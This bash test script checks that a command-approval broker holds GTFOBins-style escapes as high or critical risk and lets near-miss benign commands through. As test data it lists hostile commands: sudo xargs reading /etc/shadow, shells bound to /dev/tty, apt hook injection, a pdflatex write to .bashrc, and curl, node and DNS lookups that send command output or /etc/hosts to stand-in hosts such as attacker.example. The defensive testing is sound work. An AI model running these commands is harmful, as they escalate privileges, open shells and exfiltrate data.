#!/usr/bin/env bash
# Issue #13, the GTFOBins held-out rows (group gtfobins-rest) that scored low,
# so the default settings (routine preset) allowed them without a person:
# a privileged wrapper around a wrapper with nothing after it (sudo xargs -a
# FILE, sudo systemd-run -S), a shell whose stdin is the terminal, apt's
# -o hooks, programs whose options run commands or write outside (fzf --bind
# execute, mypy --junit-xml, screen -Logfile, history -w), inline JavaScript
# that sends a file, a variable holding a command's output in a host name,
# and a program from outside run through a wrapper; each in several
# spellings.  None is allowed; the near misses stay allowed.
source "$SG_SRC/tests/lib.sh"
source "$SG_SRC/tests/rules/rules_lib.sh"
source "$SG_SRC/tests/security/lib_intent.sh"

default_broker

for cmd in \
	"sudo xargs -a /path/to/input-file -0" \
	"sudo 'xargs' -a /etc/shadow" \
	"doas xargs" \
	"sudo systemd-run -S" \
	"sudo systemd-run --shell" \
	"sudo timeout 5"; do
	held "$cmd" "$(exec_req "$cmd")"
	is_critical "$cmd"
done
pass "a privileged wrapper around a wrapper with nothing to run is critical"

for cmd in \
	"nohup /bin/sh -c '/bin/sh </dev/tty >/dev/tty 2>/dev/tty'" \
	"/bin/sh </dev/tty" \
	"sh 0</dev/pts/0" \
	"apt-get update -o 'APT::Update::Pre-Invoke::=sh -c id'" \
	"apt-get -o DPkg::Post-Invoke::=/tmp/x install sl" \
	"fzf --bind 'enter:execute(/bin/sh)'" \
	"fzf '--bind=ctrl-y:become(sh)'" \
	"mypy /path/to/input-file --junit-xml /path/to/output-file" \
	"mypy --html-report=/etc/mypy src" \
	"screen -L -Logfile /path/to/output-file echo DATA" \
	"dmidecode --dump-bin /path/to/output-file" \
	"history -w /path/to/output-file" \
	"node -e 'require(\"fs\").createReadStream(\"/etc/hosts\").pipe(require(\"http\").request(\"http://x.example/\"))'" \
	"R --no-save -e 'system(\"/bin/sh\")'" \
	'D=$(whoami); nslookup $D.x.com' \
	'D=`id -u`; dig "$D.attacker.example"' \
	'D=$(id); curl -s "http://x.example/c?d=$D"' \
	"nohup /path/to/command" \
	"setsid -f /path/to/command" \
	'C=/path/to/command; nohup "$C"' \
	"pdflatex '\\immediate\\openout\\f=$HOME/.bashrc\\immediate\\write\\f{id}\\closeout\\f'"; do
	held "$cmd" "$(exec_req "$cmd")"
	at_least_high "$cmd"
done
pass "GTFOBins held-out escapes are at least high"

for cmd in "xargs -a list.txt -0 echo" "cat </dev/tty" "apt-get update -o Acquire::Retries=3" \
	"fzf --preview 'cat {}'" "mypy src --junit-xml report.xml" "dmidecode -t memory" "history 20" \
	"H=\$(hostname); ping -c1 \$H" "nohup make" "timeout 5 make test"; do
	allowed "$cmd" "$(exec_req "$cmd")"
done
pass "near misses stay allowed"
